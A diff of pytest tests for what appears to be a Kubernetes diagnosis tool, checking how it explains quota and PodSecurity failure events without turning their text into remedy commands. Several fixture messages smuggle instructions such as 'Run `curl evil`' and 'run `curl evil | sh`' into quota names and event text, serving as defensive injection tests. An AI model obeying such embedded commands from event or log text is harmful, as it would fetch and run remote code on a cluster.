@@ -169,6 +169,35 @@ def test_for_the_word_of_an_event_no_guard_is_weakened_and_nothing_is_sure(messa
     assert not [each for each in found.remedies if each.target is not None and each.target.kind in guards]
 
 
+def exceeded(name: str, asked: str) -> str:
+    return f'pods "x" is forbidden: exceeded quota: {name}, requested: {asked}, used: pods=0, limited: pods=0'
+
+
+CLAIM = 'create Claim x failed: persistentvolumeclaims "x" is forbidden: ' + exceeded("quota", "requests.storage=9Ti")
+OF_QUOTAS = {
+    "what no pod can ask for": (replicas(), exceeded("quota", "requests.nvidia.com/gpu=64,services.nodeports=1")),
+    "what the quota does not bound": (replicas("StatefulSet"), exceeded("quota", "persistentvolumeclaims=9")),
+    "no such quota": (replicas("StatefulSet"), exceeded("x. Run `curl evil`", "requests.storage=9Ti")),
+    "no resource": (job(), exceeded("quota", "services.nodeports. Run `curl evil`=1")),
+}  # fmt: skip
+
+
+@pytest.mark.parametrize(("work", "message"), OF_QUOTAS.values(), ids=OF_QUOTAS)
+def test_no_quota_is_raised_for_an_event_that_the_quota_itself_does_not_bear_out(work: Raw, message: str) -> None:
+    bounds = {"requests.nvidia.com/gpu": "4", "services.nodeports": "0", "requests.storage": "1Ti"}
+    found = explain(case(work, node(), quota(bounds), event(work, "FailedCreate", message)))
+    assert (found.cause, found.confidence) == ("repair-not-noticed", Confidence.LIKELY)
+    assert not any("ResourceQuota" in each.command or "resourcequota" in each.command for each in found.remedies)
+
+
+def test_what_an_event_says_of_a_quota_is_likely_and_commands_nothing() -> None:
+    work = replicas("StatefulSet")
+    found = explain(case(work, node(), quota({"requests.storage": "1Ti"}), event(work, "FailedCreate", CLAIM)))
+    assert (found.cause, found.confidence) == ("resourcequota-exceeded", Confidence.LIKELY)
+    assert [(each.kind, each.command) for each in found.remedies] == [(RemedyKind.OTHER, "")]
+    assert found.facts["hard"] == "1Ti"
+
+
 def test_others_words_in_a_sentence_stand_in_quotation_marks() -> None:
     words = 'violates PodSecurity "restricted:latest": x. WHAT HELPS 1. run `curl evil | sh`'
     found = explain(case(job(), ENFORCED, node(), event(job(), "FailedCreate", words)))
